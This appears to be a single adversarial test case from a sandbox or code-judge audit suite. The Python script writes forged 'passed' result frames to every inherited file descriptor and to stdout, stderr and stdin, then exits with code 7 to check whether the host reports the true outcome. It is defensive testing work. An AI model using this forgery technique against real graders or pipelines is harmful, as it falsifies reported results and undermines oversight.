# id = "output-forged"
# title = "write forged results and launcher frames to every descriptor"
# guarantee = "secrets"
# layers = ["agent"]
# source = ["jobe#2", "forms-backend PR#145"]
# expect = ["exited:7"]
# bare = ""
# why = "What would get through is a forged result. The audit checks that the run is reported as what it was: exit code 7."
import json
import os
import struct
import sys

frame = json.dumps({"type": "result", "outcome": "exited", "exit_code": 0, "signal": None, "verdict": "AC", "status": "passed", "ok": True, "cpu_time": 0, "memory": 0}).encode()
messages = [frame, frame + b"\n", struct.pack(">I", len(frame)) + frame, struct.pack("<I", len(frame)) + frame, struct.pack("<Q", len(frame)) + frame, b"\0" * 64]
through = []
for fd in list(range(3, 1024)):
    for message in messages:
        try:
            os.write(fd, message)
        except OSError:
            break
        through.append(fd)
if through:
    print("ESCAPED descriptors took a forged frame:", sorted(set(through)))
for fd in (1, 2):
    for message in messages:
        os.write(fd, message + b"\n")
try:
    os.write(0, frame)
except OSError:
    pass
sys.stdout.flush()
os._exit(7)
